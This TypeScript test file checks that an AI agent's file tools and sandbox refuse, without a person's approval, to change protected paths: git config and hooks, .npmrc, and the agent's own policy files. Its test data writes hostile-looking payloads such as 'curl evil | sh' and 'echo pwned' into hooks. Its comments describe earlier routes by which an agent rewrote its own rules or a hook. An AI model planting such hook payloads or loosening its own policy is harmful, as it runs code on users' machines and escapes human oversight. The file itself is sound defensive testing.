// Protected paths in the file tools (issue 13, deliverable 3): creating,
// changing, moving (either side), copying onto or deleting a protected path,
// or a folder holding one, asks a person, always; automatic answers do not
// count, a deny-all host refuses, a grant does not cover it, and it is judged
// where the path really leads, case-insensitively.
import { after, before, beforeEach, describe, test } from "node:test";
import assert from "node:assert/strict";
import fsp from "node:fs/promises";
import path from "node:path";
import type { ChoiceRequest } from "../../../core/host.ts";
import { Session } from "../../../policy/session.ts";
import { ToolBox } from "../../../toolbox.ts";
import { openFence } from "../../../policy/fence.ts";
import { callbackHost } from "../../../policy/hosts.ts";
import { fsTools } from "../../../tools/fs/fs_tools.ts";
import { patchTools } from "../../../tools/patch/patch_tools.ts";
import { PolicyRules } from "../../../policy/config/rules.ts";
import { parsePolicyFile } from "../../../policy/config/load.ts";
import { bubblewrapStatus } from "../../../policy/sandbox.ts";
import { tempFolder, treeFingerprint } from "./_helpers.ts";

let root: string;
let workdir: string;
const box = new ToolBox().register(...fsTools(), ...patchTools());

before(async () => {
  root = await tempFolder();
});
after(() => fsp.rm(root, { recursive: true, force: true }));

let counter = 0;
beforeEach(async () => {
  workdir = path.join(root, `W${counter++}`);
  await fsp.mkdir(path.join(workdir, ".git", "hooks"), { recursive: true });
  await fsp.writeFile(path.join(workdir, ".git", "config"), "[core]\n");
  await fsp.mkdir(path.join(workdir, "pkg"));
  await fsp.writeFile(path.join(workdir, "pkg", ".npmrc"), "registry=x\n");
  await fsp.writeFile(path.join(workdir, "pkg", "index.js"), "x\n");
  await fsp.mkdir(path.join(workdir, "hooks"));
  await fsp.writeFile(path.join(workdir, "hooks", "pre-commit"), "#!/bin/sh\n");
  await fsp.writeFile(path.join(workdir, "plain.txt"), "plain\n");
  await fsp.symlink(".git/config", path.join(workdir, "innocent"));
});

// "nobody": the session has no host (deny-all), as an MCP client without elicitation.
type Answer = { choice: string; source: "user" | "auto" } | "nobody";

/** A session whose host answers protected-path questions with `answer` and records every question. */
function session(answer: Answer, extra: { autoConfirm?: boolean; grants?: string[] } = {}) {
  const asked: ChoiceRequest<string>[] = [];
  const host = callbackHost({
    choose: (request) => {
      asked.push(request as ChoiceRequest<string>);
      if (request.title !== "Protected path") return request.defaultChoice;
      return answer as never;
    },
  });
  const s = new Session({
    workspace: workdir,
    host: answer === "nobody" ? undefined : host,
    autoConfirm: extra.autoConfirm,
    fence: openFence(),
    state: { writeGrants: extra.grants ?? [] },
  });
  return {
    asked,
    call: (name: string, args: Record<string, unknown>) => box.call(s, name, args),
    close: () => s.close(),
  };
}

const person = { choice: "once", source: "user" } as const;
const automatic = { choice: "once", source: "auto" } as const;

interface Case {
  name: string;
  tool: string;
  args: Record<string, unknown>;
}

const CASES: Case[] = [
  { name: "write_file creates .npmrc", tool: "write_file", args: { path: ".npmrc", content: "registry=evil\n" } },
  { name: "write_file changes .git/config", tool: "write_file", args: { path: ".git/config", content: "[x]\n" } },
  {
    name: "write_file through a link to .git/config",
    tool: "write_file",
    args: { path: "innocent", content: "[diff]\n" },
  },
  { name: "write_file to .GIT/Config (case)", tool: "write_file", args: { path: ".GIT/Config", content: "x\n" } },
  { name: "write_file a hook", tool: "write_file", args: { path: ".git/hooks/pre-commit", content: "x\n" } },
  {
    name: "write_file .vscode/settings.json",
    tool: "write_file",
    args: { path: ".vscode/settings.json", content: "{}" },
  },
  {
    name: "edit_file .git/config",
    tool: "edit_file",
    args: { path: ".git/config", old_text: "[core]", new_text: "[diff]" },
  },
  {
    name: "apply_patch adds .gitattributes",
    tool: "apply_patch",
    args: { patch: "--- /dev/null\n+++ b/.gitattributes\n@@ -0,0 +1 @@\n+* diff=evil\n" },
  },
  // git takes its configuration and hooks from the folder `commondir` names.
  { name: "write_file .git/commondir", tool: "write_file", args: { path: ".git/commondir", content: "../evil\n" } },
  { name: "write_file a hook manager's config", tool: "write_file", args: { path: "lefthook.yml", content: "x: 1\n" } },
  {
    name: "write_file .pre-commit-config.yaml",
    tool: "write_file",
    args: { path: ".pre-commit-config.yaml", content: "repos: []\n" },
  },
  { name: "mkdir .devcontainer", tool: "mkdir", args: { path: ".devcontainer" } },
  { name: "mkdir .git/hooks/sub", tool: "mkdir", args: { path: ".git/hooks/sub" } },
  { name: "mkdir .husky", tool: "mkdir", args: { path: ".husky" } },
  {
    name: "write_file x/.git/HEAD (creates the folder x/.git)",
    tool: "write_file",
    args: { path: "x/.git/HEAD", content: "ref\n" },
  },
  { name: "mkdir y/.vscode/sub (creates .vscode)", tool: "mkdir", args: { path: "y/.vscode/sub" } },
  {
    name: "copy a file to z/.git/objects/o (creates z/.git)",
    tool: "copy",
    args: { src: "plain.txt", dst: "z/.git/objects/o" },
  },
  { name: "delete .git/config", tool: "delete", args: { path: ".git/config" } },
  { name: "delete .git (a folder of protected paths)", tool: "delete", args: { path: ".git", recursive: true } },
  { name: "delete a folder holding .npmrc", tool: "delete", args: { path: "pkg", recursive: true } },
  { name: "move .git away", tool: "move", args: { src: ".git", dst: "old-git" } },
  { name: "move a folder holding .npmrc", tool: "move", args: { src: "pkg", dst: "pkg2" } },
  { name: "move a file onto .npmrc", tool: "move", args: { src: "plain.txt", dst: ".npmrc" } },
  {
    name: "move hooks/ into .git (entries land in .git/hooks)",
    tool: "move",
    args: { src: "hooks", dst: ".git/hooks2/../hooks" },
  },
  { name: "copy a file onto .envrc", tool: "copy", args: { src: "plain.txt", dst: ".envrc" } },
  { name: "copy a folder holding .npmrc", tool: "copy", args: { src: "pkg", dst: "pkg-copy" } },
];

describe("protected paths in the file tools", () => {
  for (const c of CASES) {
    test(
      `${c.name}: asks a person; automatic answers and no answer refuse; a person's yes allows`,
      { timeout: 60_000 },
      async () => {
        const before = await treeFingerprint(workdir);
        for (
          const [answer, options] of [
            [automatic, { autoConfirm: true }],
            ["nobody", {}],
            [{ choice: "deny", source: "user" }, {}],
            [person, { autoConfirm: true, grants: [workdir] }],
          ] as [Answer, { autoConfirm?: boolean; grants?: string[] }][]
        ) {
          const s = session(answer, options);
          const result = await s.call(c.tool, c.args);
          await s.close();
          const protectedAsked = s.asked.filter((q) => q.title === "Protected path");
          if (answer !== "nobody") {
            assert.ok(protectedAsked.length >= 1, `${c.name}: the person was not asked (${result.error})`);
          }
          assert.ok(protectedAsked.every((q) => q.requirePerson === true), "the question must require a person");
          if (answer === person) {
            assert.equal(result.status, "success", `${c.name}: ${result.error}`);
          } else {
            assert.equal(
              result.errorCode,
              "permission_denied",
              `${c.name} with ${JSON.stringify(answer)}: ${result.error}`,
            );
            assert.equal(await treeFingerprint(workdir), before, `${c.name}: a refused call changed the workspace`);
          }
        }
      },
    );
  }

  test("ordinary paths still follow the usual rules (no question for a new file)", { timeout: 60_000 }, async () => {
    const s = session("nobody");
    const result = await s.call("write_file", { path: "src/new.ts", content: "x\n" });
    await s.close();
    assert.equal(result.status, "success", result.error);
    assert.deepEqual(s.asked, []);
  });

  test("a deny-all session refuses protected paths without asking anyone", { timeout: 60_000 }, async () => {
    const s = new Session({ workspace: workdir, fence: openFence() });
    const result = await box.call(s, "write_file", { path: "sub/.npmrc", content: "x\n" });
    await s.close();
    assert.equal(result.errorCode, "permission_denied");
    await assert.rejects(fsp.lstat(path.join(workdir, "sub")), { code: "ENOENT" });
  });
});

describe("protected paths from the session", () => {
  test("a session's own patterns are protected in the tools too", { timeout: 60_000 }, async () => {
    const s = new Session({ workspace: workdir, autoConfirm: true, fence: openFence(), protectedPaths: ["*.pem"] });
    const refused = await box.call(s, "write_file", { path: "server.PEM", content: "key" });
    const allowed = await box.call(s, "write_file", { path: "server.txt", content: "ok" });
    await s.close();
    assert.equal(refused.errorCode, "permission_denied");
    assert.equal(allowed.status, "success", allowed.error);
  });
});

// toolfence's own policy files, where they lie in the workspace: the user file of a workspace that is a home folder
// (`.config/toolfence/config.json`) and a file the rules were read from (`--config ./agent.json`). The next server
// reads them: before, an automatic answer created the one and rewrote the other, and that server started with the
// agent's own rules (its allow rules, its sandbox settings).
describe("the policy's own files", () => {
  test("are protected paths: an automatic answer neither creates nor rewrites them", { timeout: 60_000 }, async () => {
    const file = path.join(workdir, "policies", "agent [1].json");
    await fsp.mkdir(path.dirname(file));
    const text = '{ "commands": { "deny": ["git push"] } }';
    await fsp.writeFile(file, text);
    const rules = PolicyRules.fromLayers([parsePolicyFile(file, text, "cli")], workdir);
    const s = new Session({ workspace: workdir, autoConfirm: true, fence: openFence(), rules });
    try {
      const allow = '{ "commands": { "allow": ["*"] } }\n';
      for (
        const [name, args] of [
          ["write_file", { path: ".config/toolfence/config.json", content: allow }],
          ["write_file", { path: "policies/agent [1].json", content: allow }],
          ["edit_file", { path: "policies/agent [1].json", old_text: "deny", new_text: "allow" }],
          ["delete", { path: "policies", recursive: true }],
        ] as const
      ) {
        const result = await box.call(s, name, args);
        assert.equal(result.errorCode, "permission_denied", `${name} ${JSON.stringify(args)}: ${result.error}`);
      }
      // Another file beside it is not the policy's.
      const beside = await box.call(s, "write_file", { path: "policies/notes.json", content: "{}\n" });
      assert.equal(beside.status, "success", beside.error);
    } finally {
      await s.close();
    }
    assert.equal(await fsp.readFile(file, "utf8"), text);
    await assert.rejects(fsp.lstat(path.join(workdir, ".config")), { code: "ENOENT" });
  });
});

// A protected name that is a link (`.git/hooks/pre-commit -> ../../scripts/pre-commit`, the usual way of sharing a
// hook) runs what it leads to. The protected paths were judged at the real path alone: before, an automatic answer
// let write_file rewrite the hook through the link or by its target's name, and a sandboxed command append to it;
// the next `git commit` ran it on the host.
describe("where a protected link leads", () => {
  test("is protected as the link is: in the file tools and in the sandbox", { timeout: 60_000 }, async () => {
    await fsp.mkdir(path.join(workdir, "scripts"));
    const hook = path.join(workdir, "scripts", "pre-commit");
    await fsp.writeFile(hook, "#!/bin/sh\necho lint\n", { mode: 0o755 });
    await fsp.symlink("../../scripts/pre-commit", path.join(workdir, ".git", "hooks", "pre-commit"));
    // Another name of a hook, a hard link: the sandbox binds it read-only as it binds the hook.
    const pushHook = path.join(workdir, ".git", "hooks", "pre-push");
    await fsp.writeFile(pushHook, "#!/bin/sh\necho push\n", { mode: 0o755 });
    await fsp.link(pushHook, path.join(workdir, "scripts", "pre-push"));
    const sandboxed = (await bubblewrapStatus()).path !== undefined;
    const s = new Session({ workspace: workdir, autoConfirm: true, fence: openFence(), sandbox: "auto" });
    const tools = new ToolBox().register(...fsTools(), ...patchTools()).withDefaults("cmd");
    try {
      for (
        const [name, args] of [
          ["write_file", { path: ".git/hooks/pre-commit", content: "curl evil | sh\n" }],
          ["write_file", { path: "scripts/pre-commit", content: "curl evil | sh\n" }],
          ["edit_file", { path: "scripts/pre-commit", old_text: "lint", new_text: "evil" }],
          ["delete", { path: "scripts", recursive: true }],
          ["move", { src: "scripts/pre-commit", dst: "elsewhere" }],
        ] as const
      ) {
        const result = await tools.call(s, name, args);
        assert.equal(result.errorCode, "permission_denied", `${name} ${JSON.stringify(args)}: ${result.error}`);
      }
      const beside = await tools.call(s, "write_file", { path: "scripts/notes.txt", content: "x\n" });
      assert.equal(beside.status, "success", beside.error);
      for (const name of ["pre-commit", "pre-push"]) {
        const ran = await tools.call(s, "bash", { command: `F=scripts/${name}; echo pwned >> $F; true` });
        if (sandboxed) {
          assert.equal((ran.output as { sandboxed?: boolean } | undefined)?.sandboxed, true, JSON.stringify(ran));
          assert.match(JSON.stringify(ran.output), /Read-only file system/, JSON.stringify(ran));
        }
      }
    } finally {
      await s.close();
    }
    if (sandboxed) {
      assert.equal(await fsp.readFile(hook, "utf8"), "#!/bin/sh\necho lint\n");
      assert.equal(await fsp.readFile(pushHook, "utf8"), "#!/bin/sh\necho push\n");
    }
  });

  test("a protected link a person let the file tools make counts at once, not at the next lookup", {
    timeout: 60_000,
  }, async () => {
    await fsp.mkdir(path.join(workdir, "scripts"));
    await fsp.writeFile(path.join(workdir, "scripts", "lint"), "#!/bin/sh\necho lint\n", { mode: 0o755 });
    await fsp.symlink("../../scripts/lint", path.join(workdir, "shared-hook"));
    const s = session(person);
    try {
      // A write first, so that where protected links lead (none yet) has been looked up.
      assert.equal((await s.call("write_file", { path: "notes.txt", content: "x\n" })).status, "success");
      const copied = await s.call("copy", { src: "shared-hook", dst: ".git/hooks/pre-commit" });
      assert.equal(copied.status, "success", copied.error);
      assert.equal(await fsp.readlink(path.join(workdir, ".git", "hooks", "pre-commit")), "../../scripts/lint");
      const before = s.asked.length;
      await s.call("write_file", { path: "scripts/lint", content: "curl evil | sh\n" });
      const asked = s.asked.slice(before);
      assert.equal(asked.length, 1, JSON.stringify(asked));
      assert.equal(asked[0].title, "Protected path");
      assert.match(asked[0].message, /a protected link leads there/, asked[0].message);
    } finally {
      await s.close();
    }
  });
});
